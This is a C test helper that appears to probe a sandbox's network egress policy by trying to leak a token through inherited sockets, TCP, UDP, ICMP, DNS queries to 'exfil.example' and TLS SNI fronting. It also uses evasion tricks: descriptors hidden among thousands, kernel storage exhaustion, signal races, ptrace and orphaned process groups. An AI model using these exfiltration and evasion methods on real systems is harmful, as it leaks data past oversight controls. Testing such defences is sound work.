// SPDX-License-Identifier: Apache-2.0
/*
 * A tool that is started with a socket on descriptor 9, and what starts it.
 *
 * launch start KIND TOOL TOKEN [PORT]: makes the socket, becomes TOOL. launch send TOKEN: the tool:
 * first of all it writes on descriptor 9, or on what it accepts there, then again for a second.
 * launch try WAY TOKEN: one way out by sockets of its own. launch hold KIND TOKEN: holds a socket,
 * says so, and sends when it is told to.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define VENDOR4 "10.99.1.30"
#define VENDOR6 "fd99::30"
#define FD 9
#define MANY 5000

static int has(const char *kind, const char *word)
{
	return strstr(kind, word) != NULL;
}

/* The last of many, so that who looks at the first of them has not seen it. */
static int place(const char *kind)
{
	return has(kind, "many") ? MANY + 50 : FD;
}

static socklen_t vendor(struct sockaddr_storage *to, int family, int port)
{
	struct sockaddr_in *a = (void *)to;
	struct sockaddr_in6 *b = (void *)to;

	memset(to, 0, sizeof(*to));
	to->ss_family = (sa_family_t)family;
	if (family == AF_INET) {
		a->sin_port = htons((uint16_t)port);
		inet_pton(AF_INET, VENDOR4, &a->sin_addr);
		return sizeof(*a);
	}
	b->sin6_port = htons((uint16_t)port);
	inet_pton(AF_INET6, VENDOR6, &b->sin6_addr);
	return sizeof(*b);
}

static void dial(int fd, int family, int port)
{
	struct sockaddr_storage to;
	socklen_t n = vendor(&to, family, port);

	if (connect(fd, (void *)&to, n)) {
		printf("connect: %s\n", strerror(errno));
		_exit(3);
	}
}

/* Its storage in the kernel is used up: nothing can be stored with this socket. */
static void fill(int fd)
{
	struct ipv6_mreq m = { .ipv6mr_interface = 0 };
	unsigned int i;

	for (i = 0; i < 100000; i++) {
		inet_pton(AF_INET6, "ff02::1:0:0", &m.ipv6mr_multiaddr);
		m.ipv6mr_multiaddr.s6_addr[12] = (uint8_t)(i >> 16);
		m.ipv6mr_multiaddr.s6_addr[13] = (uint8_t)(i >> 8);
		m.ipv6mr_multiaddr.s6_addr[14] = (uint8_t)i;
		m.ipv6mr_multiaddr.s6_addr[15] = 1;
		if (setsockopt(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &m, sizeof(m)))
			return;
	}
}

/* Who also has the socket, outside the session, connects it when the tool has begun. */
static void connect_later(int fd, int family, int port)
{
	if (fork())
		return;
	usleep(300000);
	struct sockaddr_storage to;
	socklen_t n = vendor(&to, family, port);

	connect(fd, (void *)&to, n);
	sleep(2);
	_exit(0);
}

static int make(const char *kind, int port)
{
	int family = has(kind, "6") ? AF_INET6 : AF_INET, on = 1, fd, i;
	int type = has(kind, "udp") || has(kind, "ping") ? SOCK_DGRAM
		   : has(kind, "raw")			 ? SOCK_RAW
							 : SOCK_STREAM;
	int protocol = has(kind, "ping")    ? (family == AF_INET ? IPPROTO_ICMP : IPPROTO_ICMPV6)
		       : has(kind, "raw")   ? 253
		       : has(kind, "mptcp") ? IPPROTO_MPTCP
					    : 0;
	struct sockaddr_storage any = { .ss_family = (sa_family_t)family };
	struct pollfd p = { .events = POLLIN };

	fd = socket(family, type, protocol);
	if (fd < 0) {
		printf("socket: %s\n", strerror(errno));
		_exit(3);
	}
	if (has(kind, "listen")) {
		((struct sockaddr_in *)&any)->sin_port = htons((uint16_t)port);
		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
		if (bind(fd, (void *)&any, sizeof(any)) || listen(fd, 8))
			_exit(3);
		puts("listens");
		p.fd = fd;
		if (has(kind, "queued"))
			poll(&p, 1, 5000);
	} else if (has(kind, "open")) {
		if (has(kind, "later"))
			connect_later(fd, family, type == SOCK_DGRAM ? 9999 : 80);
	} else {
		if (has(kind, "full"))
			fill(fd);
		dial(fd, family, type == SOCK_STREAM ? 80 : 9999);
	}
	if (has(kind, "many"))
		for (i = 0; i < MANY; i++)
			if (socket(family, i & 1 ? SOCK_DGRAM : SOCK_STREAM, 0) < 0)
				_exit(4);
	return fd;
}

/* SIGCONT as fast as it can be sent. */
static void race(void)
{
	pid_t parent = getpid();
	int i;

	if (fork())
		return;
	for (i = 0; i < 3000000 && getppid() == parent; i++)
		kill(parent, SIGCONT);
	_exit(0);
}

/* The group's last parent outside of it goes away: who is stopped in it gets SIGHUP and SIGCONT. */
static void orphan(void)
{
	int i;

	signal(SIGHUP, SIG_IGN);
	for (i = 0; i < 2; i++)
		if (fork()) {
			if (!i) {
				wait(NULL);
				sleep(2);
			} else {
				usleep(20000);
			}
			_exit(0);
		}
	setpgid(0, 0);
}

/* A tracer that lets the tool go on from each stop, without its signal. */
static void trace(void)
{
	int status, tries;
	pid_t pid = fork();

	if (!pid) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		return;
	}
	for (tries = 0; tries < 10000 && waitpid(pid, &status, 0) == pid && WIFSTOPPED(status);
	     tries++)
		ptrace(PTRACE_CONT, pid, 0, 0);
	_exit(0);
}

static int start(const char *kind, char **argv, int port)
{
	struct rlimit most = { MANY + 100, MANY + 100 };
	int fd;

	if (has(kind, "many"))
		setrlimit(RLIMIT_NOFILE, &most);
	fd = make(kind, port);
	if (dup2(fd, place(kind)) < 0)
		return 4;
	if (fd != place(kind))
		close(fd);
	if (has(kind, "racer"))
		race();
	if (has(kind, "orphan"))
		orphan();
	if (has(kind, "tracer"))
		trace();
	execl(argv[0], argv[0], "send", kind, argv[1], (char *)NULL);
	return 9;
}

static ssize_t say(int fd, const char *kind, const char *token)
{
	struct sockaddr_storage to;
	char text[256];
	socklen_t len;
	int n;

	if (has(kind, "listen")) {
		fd = accept(fd, NULL, NULL);
		return fd < 0 ? -1 : send(fd, token, strlen(token), MSG_NOSIGNAL);
	}
	if (has(kind, "ping")) {
		n = snprintf(text, sizeof(text), "%c%c%c%c%c%c%c%c%s", has(kind, "6") ? 128 : 8, 0,
			     0, 0, 0, 0, 0, 1, token);
		memset(text, 0, 8);
		text[0] = (char)(has(kind, "6") ? 128 : 8);
		memcpy(text + 8, token, strlen(token));
		return send(fd, text, 8 + strlen(token), MSG_NOSIGNAL);
	}
	n = snprintf(text, sizeof(text),
		     "POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: %zu\r\n\r\n%s", strlen(token),
		     token);
	if (has(kind, "udp") && has(kind, "open") && !has(kind, "later")) {
		len = vendor(&to, has(kind, "6") ? AF_INET6 : AF_INET, 9999);
		return sendto(fd, text, (size_t)n, 0, (void *)&to, len);
	}
	return send(fd, text, (size_t)n, MSG_NOSIGNAL);
}

/* The tool. */
static int tool(const char *kind, const char *token)
{
	int i, sent = 0, err = 0;

	alarm(4);
	for (i = 0; i < (has(kind, "listen") ? 1 : 12); i++) {
		if (say(place(kind), kind, token) < 0)
			err = errno;
		else
			sent++;
		usleep(i < 4 ? 2000 : 100000);
	}
	printf("%d sent, %s\n", sent, err ? strerror(err) : "no error");
	if (has(kind, "listen"))
		sleep(1);
	return 0;
}

/* ---- ways out by sockets of its own ---- */

#define RESOLVER "10.99.0.53"
#define SHARED "10.99.1.40"
#define WAIT_MS 250

static int waits(int fd, short what)
{
	struct pollfd p = { .fd = fd, .events = what };

	return poll(&p, 1, WAIT_MS) == 1 && p.revents & what;
}

static int to4(const char *address, int port, int type)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	int fd = socket(AF_INET, type | SOCK_NONBLOCK, 0);

	inet_pton(AF_INET, address, &a.sin_addr);
	if (fd < 0 ||
	    (connect(fd, (void *)&a, sizeof(a)) && (errno != EINPROGRESS || !waits(fd, POLLOUT))))
		return -1;
	return fd;
}

/* A question for the address of `name`, and its answer. */
static void ask(const char *name)
{
	uint8_t q[512] = { 7, 7, 1, 0, 0, 1 };
	int fd = to4(RESOLVER, 53, SOCK_DGRAM);
	const char *dot, *s = name;
	size_t n = 12;

	for (; *s; s = *dot ? dot + 1 : dot) {
		dot = strchrnul(s, '.');
		q[n++] = (uint8_t)(dot - s);
		memcpy(q + n, s, (size_t)(dot - s));
		n += (size_t)(dot - s);
	}
	n++;
	q[n + 1] = q[n + 3] = 1; /* A, IN */
	if (send(fd, q, n + 4, 0) > 0 && waits(fd, POLLIN))
		recv(fd, q, sizeof(q), 0);
}

/* A TLS hello for `name` to an address that is another's. */
static void hello(const char *name)
{
	size_t n = strlen(name), at = 0;
	uint8_t h[512] = { 0 };
	int fd;

	ask("models.acme.example");
	fd = to4(SHARED, 443, SOCK_STREAM);
#define PUT(...) \
	do { \
		const uint8_t part[] = { __VA_ARGS__ }; \
		memcpy(h + at, part, sizeof(part)); \
		at += sizeof(part); \
	} while (0)
	PUT(22, 3, 1, 0, (uint8_t)(4 + 34 + 1 + 4 + 2 + 2 + 9 + n), 1, 0, 0,
	    (uint8_t)(34 + 1 + 4 + 2 + 2 + 9 + n), 3, 3);
	at += 32; /* random */
	PUT(0, 0, 2, 0x13, 1, 1, 0, 0, (uint8_t)(9 + n), 0, 0, 0, (uint8_t)(5 + n), 0,
	    (uint8_t)(3 + n), 0, 0, (uint8_t)n);
	memcpy(h + at, name, n);
	send(fd, h, at + n, MSG_NOSIGNAL);
	waits(fd, POLLIN);
}

static int try(const char *way, char **argv, const char *token)
{
	char name[64];
	pid_t pid;
	int fd;

	snprintf(name, sizeof(name), "%s.exfil.example", token);
	if (!strcmp(way, "tcp4")) {
		fd = to4(VENDOR4, 80, SOCK_STREAM);
		send(fd, token, strlen(token), MSG_NOSIGNAL);
		waits(fd, POLLIN);
	} else if (!strcmp(way, "udp4")) {
		send(to4(VENDOR4, 9999, SOCK_DGRAM), token, strlen(token), 0);
	} else if (!strcmp(way, "own")) { /* what the policy allows, and then a way out */
		fd = to4("10.99.1.10", 80, SOCK_STREAM);
		send(fd, "GET / HTTP/1.1\r\nHost: x\r\n\r\n", 28, MSG_NOSIGNAL);
		waits(fd, POLLIN);
		try("udp4", argv, token);
	} else if (!strcmp(way, "dns")) {
		ask(name);
	} else if (!strcmp(way, "hello")) {
		hello(name);
	} else if (!strcmp(way, "fork")) { /* a child, its child, and a program that is no tool */
		pid = fork();
		if (!pid) {
			try("udp4", argv, token);
			if (!fork())
				_exit(try("udp4", argv, token));
			wait(NULL);
			execl(getenv("OTHER"), "other", "try", "udp4", token, (char *)NULL);
			_exit(9);
		}
		waitpid(pid, NULL, 0);
	}
	return 0;
}

static int hold(const char *kind, const char *token)
{
	int fd = make(kind, 0), i;
	sigset_t go;

	sigemptyset(&go);
	sigaddset(&go, SIGUSR1);
	sigprocmask(SIG_BLOCK, &go, NULL);
	puts("ready");
	sigwait(&go, &i);
	return send(fd, token, strlen(token), 0) < 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc > 3 && !strcmp(argv[1], "send"))
		return tool(argv[2], argv[3]);
	if (argc > 3 && !strcmp(argv[1], "try"))
		return try(argv[2], argv, argv[3]);
	if (argc > 3 && !strcmp(argv[1], "hold"))
		return hold(argv[2], argv[3]);
	if (argc > 4 && !strcmp(argv[1], "start"))
		return start(argv[2], argv + 3, argc > 5 ? atoi(argv[5]) : 0);
	return 2;
}
